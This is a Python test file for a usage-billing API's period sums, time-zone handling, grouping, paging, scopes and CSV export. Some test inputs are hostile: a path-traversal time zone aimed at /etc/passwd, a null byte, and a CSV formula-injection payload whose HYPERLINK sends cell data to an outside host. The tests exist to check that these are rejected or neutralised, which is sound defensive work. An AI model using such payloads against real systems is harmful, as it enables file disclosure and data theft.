"""`GET /v1/usage`: the sums of a period, from the ledger alone."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import text

from sessions.ids import new_uuid, parse_id
from sessions.organizations.key_terms import KeyTerms
from tests.support.running.api_server import ApiServer

ROW = text(
    "INSERT INTO usage_events (id, session_id, organization_id, epoch, kind, code, from_ms, to_ms, quality,"
    " multiplier, credits, agent_id, external_customer_id, recorded_at) VALUES (:id, :id, :organization_id, 1, :kind,"
    " :code, 0, abs(:ms), :quality, 1, round(CAST(:ms AS numeric) / 1000, 3), :agent_id, :customer, :at)"
)


async def bill(
    api: ApiServer,
    ms: int,
    at: datetime | str,
    *,
    quality: str = "standard",
    agent_id: str = "agent_a",
    customer: str | None = None,
    organization: str = "default",
) -> None:
    """A row recorded at that time; negative milliseconds are given back."""
    key, _ = await api.dependencies.api_keys.create(organization)
    when = datetime.fromisoformat(at) if isinstance(at, str) else at
    values = {"id": new_uuid(), "organization_id": key.organization_id, "ms": ms, "quality": quality}
    values |= {"kind": "credit", "code": "usage.no_media"} if ms < 0 else {"kind": "final", "code": None}
    async with api.dependencies.db.begin() as conn:
        await conn.execute(ROW, {**values, "agent_id": agent_id, "customer": customer, "at": when})


async def usage(api: ApiServer, query: str = "", **more: Any) -> dict[str, Any]:
    """The sums."""
    reply = await api.call("GET", f"/v1/usage?{query}", **more)
    assert reply.status == 200, reply.content
    assert isinstance(reply.content, dict)
    return reply.content


async def test_a_period_is_half_open_and_adds_up_exactly(api: ApiServer) -> None:
    """Decimal strings; another organization's rows are another bill."""
    for ms, at in [(1, "2026-01-01T00:00:00Z"), (2_000_500, "2026-01-31T23:59:59Z"), (5, "2026-02-01T00:00:00Z")]:
        await bill(api, ms, at)
    await bill(api, 7, "2026-01-15T00:00:00Z", organization="other")
    assert await usage(api, "period_start=2026-01-01&period_end=2026-02-01") == {
        "object": "usage",
        "period": {
            "start": "2026-01-01T00:00:00.000Z",
            "end": "2026-02-01T00:00:00.000Z",
            "time_zone": "UTC",
            "as_of": "2026-02-01T00:00:00.000Z",
            "complete": True,
        },
        "totals": {"milliseconds": 2_000_501, "billable_seconds": 2000, "credits": "2000.501", "events": 2},
        "group_by": None,
        "groups": [],
        "has_more": False,
        "next_cursor": None,
    }


async def test_what_is_given_back_in_the_next_month_leaves_the_billed_one_as_it_is(api: ApiServer) -> None:
    """The sums of the next one may be negative; both together are the bill."""
    await bill(api, 60_000, "2026-01-31T23:59:59Z")
    billed = await usage(api, "period_start=2026-01-01&period_end=2026-02-01")
    await bill(api, -59_500, "2026-02-01T00:01:00Z")
    assert await usage(api, "period_start=2026-01-01&period_end=2026-02-01") == billed
    next_month = await usage(api, "period_start=2026-02-01&period_end=2026-03-01")
    assert next_month["totals"] == {"milliseconds": -59_500, "billable_seconds": -60, "credits": "-59.500", "events": 1}
    both = await usage(api, "period_start=2026-01-01&period_end=2026-03-01")
    assert both["totals"] == {"milliseconds": 500, "billable_seconds": 0, "credits": "0.500", "events": 2}


async def test_dates_begin_at_midnight_of_the_time_zone(api: ApiServer) -> None:
    """A time with an offset means the same anywhere."""
    await bill(api, 1000, "2025-12-31T23:30:00Z")
    for query, events in [
        ("period_start=2026-01-01&period_end=2026-02-01", 0),
        ("period_start=2026-01-01&period_end=2026-02-01&time_zone=Europe/Berlin", 1),
        ("period_start=2026-01-01T00:00:00%2B01:00&period_end=2026-02-01T00:00:00Z", 1),
        ("period_start=2026-01-01T00:00:00+01:00&period_end=2026-02-01T00:00:00Z", 1),
    ]:
        assert (await usage(api, query))["totals"]["events"] == events, query


async def test_the_month_is_the_current_one_by_default_and_ends_30_seconds_ago(api: ApiServer) -> None:
    """What was recorded just now may still be followed by an older row: it is counted later."""
    now = datetime.now(UTC)
    await bill(api, 1000, now - timedelta(seconds=31))
    await bill(api, 1000, now - timedelta(seconds=5))
    zone = "time_zone=UTC"
    if (now - timedelta(seconds=31)).month != now.month:
        pytest.skip("the month has just begun")
    found = await usage(api)
    assert found == {**await usage(api, f"period=current_month&{zone}"), "period": found["period"]}
    assert (found["totals"]["events"], found["period"]["complete"]) == (1, False)
    behind = now - datetime.fromisoformat(found["period"]["as_of"])
    assert timedelta(seconds=15) < behind < timedelta(seconds=31)
    previous = (await usage(api, "period=previous_month"))["period"]
    assert (previous["end"], previous["complete"]) == (found["period"]["start"], True)


async def test_groups_add_up_and_page(api: ApiServer) -> None:
    """By value, those without one last; each page has the whole period's totals."""
    for ms, customer in [(1000, "b"), (2000, "a"), (3000, None), (4000, "b"), (500, "Ä"), (700, "=c")]:
        await bill(
            api, ms, "2026-01-10T00:00:00Z", customer=customer, quality="mock" if customer == "b" else "standard"
        )
    query = "period_start=2026-01-01&period_end=2026-02-01&group_by="
    whole = await usage(api, query + "external_customer_id")
    assert [(group["value"], group["milliseconds"]) for group in whole["groups"]] == [
        ("=c", 700),
        ("a", 2000),
        ("b", 5000),
        ("Ä", 500),
        (None, 3000),
    ]
    assert sum(Decimal(group["credits"]) for group in whole["groups"]) == Decimal(whole["totals"]["credits"])
    paged: list[Any] = []
    cursor = None
    while True:
        after = f"&after={quote(cursor)}" if cursor else ""
        page = await usage(api, f"{query}external_customer_id&limit=2{after}")
        assert page["totals"] == whole["totals"]
        paged += page["groups"]
        if not page["has_more"]:
            break
        cursor = page["next_cursor"]
    assert paged == whole["groups"]
    qualities = (await usage(api, query + "quality"))["groups"]
    assert [(group["group_by"], group["value"], group["events"]) for group in qualities] == [
        ("quality", "mock", 2),
        ("quality", "standard", 4),
    ]
    assert [group["value"] for group in (await usage(api, query + "agent_id"))["groups"]] == ["agent_a"]


async def test_days_are_those_of_the_zone(api: ApiServer) -> None:
    """Of 23 and 25 hours, too; a day without rows has no group."""
    for ms, recorded_at in [
        (1, "2026-03-28T22:59:59Z"),
        (2, "2026-03-28T23:00:00Z"),  # midnight in Berlin; clocks go forward at night
        (4, "2026-03-29T21:59:59Z"),
        (8, "2026-03-29T22:00:00Z"),
        (16, "2026-03-31T12:00:00Z"),
    ]:
        await bill(api, ms, recorded_at)
    query = "period_start=2026-03-01&period_end=2026-04-01&group_by=day"
    berlin = (await usage(api, query + "&time_zone=Europe/Berlin"))["groups"]
    assert [(group["value"], group["milliseconds"]) for group in berlin] == [
        ("2026-03-28", 1),
        ("2026-03-29", 6),
        ("2026-03-30", 8),
        ("2026-03-31", 16),
    ]
    paged = await usage(api, query + "&time_zone=Europe/Berlin&limit=2&after=2026-03-28")
    assert ([group["value"] for group in paged["groups"]], paged["has_more"]) == (["2026-03-29", "2026-03-30"], True)
    utc = (await usage(api, query))["groups"]
    assert [(group["value"], group["milliseconds"]) for group in utc] == [
        ("2026-03-28", 3),
        ("2026-03-29", 12),
        ("2026-03-31", 16),
    ]


async def test_an_agent_key_sees_its_agents_bill(api: ApiServer) -> None:
    """With usage:read; without it 403."""
    for agent_id in ("agent_a", "agent_b"):
        await bill(api, 1000, "2026-01-10T00:00:00Z", agent_id=agent_id)
    create = api.dependencies.api_keys.create
    _, reading = await create("default", KeyTerms(kind="agent", agent_id="agent_b", scopes=["usage:read"]))
    _, other = await create("default", KeyTerms(kind="agent", agent_id="agent_b", scopes=["sessions:read"]))
    query = "period_start=2026-01-01&period_end=2026-02-01&group_by=agent_id"
    found = await usage(api, query, key=reading.get_secret_value())
    assert ([group["value"] for group in found["groups"]], found["totals"]["events"]) == (["agent_b"], 1)
    refused = await api.call("GET", f"/v1/usage?{query}", key=other.get_secret_value())
    assert (refused.status, refused.code) == (403, "scope.missing")


@pytest.mark.parametrize(
    ("query", "param"),
    [
        ("period=next_month", "period"),
        ("period=", "period"),
        ("period=2026-01", "period"),
        ("period=current_month&period_start=2026-01-01&period_end=2026-02-01", "period"),
        ("period_start=2026-01-01", "period_end"),
        ("period_end=2026-01-01", "period_start"),
        ("period_start=2026-02-01&period_end=2026-02-01", "period_end"),
        ("period_start=2026-02-02&period_end=2026-02-01", "period_end"),
        ("period_start=2024-01-01&period_end=2026-02-01", "period_end"),
        ("period_start=2026-02-30&period_end=2026-03-01", "period_start"),
        ("period_start=2026-02-01T00:00:00&period_end=2026-03-01", "period_start"),
        ("period_start=%00&period_end=2026-03-01", "period_start"),
        ("time_zone=Mars/Olympus", "time_zone"),
        ("time_zone=../../etc/passwd", "time_zone"),
        ("time_zone=", "time_zone"),
        ("group_by=session_id", "group_by"),
        ("group_by=", "group_by"),
        ("after=x", "after"),
        ("limit=0", "limit"),
    ],
)
async def test_bad_periods_zones_and_groups_are_422(api: ApiServer, query: str, param: str) -> None:
    """Naming the parameter."""
    reply = await api.call("GET", f"/v1/usage?{query}")
    assert (reply.status, reply.code, reply.content["error"]["param"]) == (422, "parameter.invalid", param)


async def test_customers_texts_are_no_formulas_in_csv(api: ApiServer) -> None:
    """A spreadsheet shows them, it doesn't run them; JSON has them as they are."""
    evil = '=HYPERLINK("https://example.com?"&A1,"x")'
    wanted = {evil: "'" + evil, "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "a=1": "a=1"}
    for customer in wanted:
        await bill(api, 1000, "2026-01-10T00:00:00Z", customer=customer)
    table = await api.call("GET", "/v1/usage/events", headers={"Accept": "text/csv"})
    shown = [row["external_customer_id"] for row in csv.DictReader(io.StringIO(table.body.decode(), newline=""))]
    assert sorted(shown) == sorted(wanted.values())
    rows = (await api.call("GET", "/v1/usage/events")).content["data"]
    assert sorted(row["external_customer_id"] for row in rows) == sorted(wanted)
    assert table.headers["Content-Disposition"] == 'attachment; filename="usage_events.csv"'
    assert table.headers["X-Content-Type-Options"] == "nosniff"
    assert parse_id("ue", rows[0]["id"])
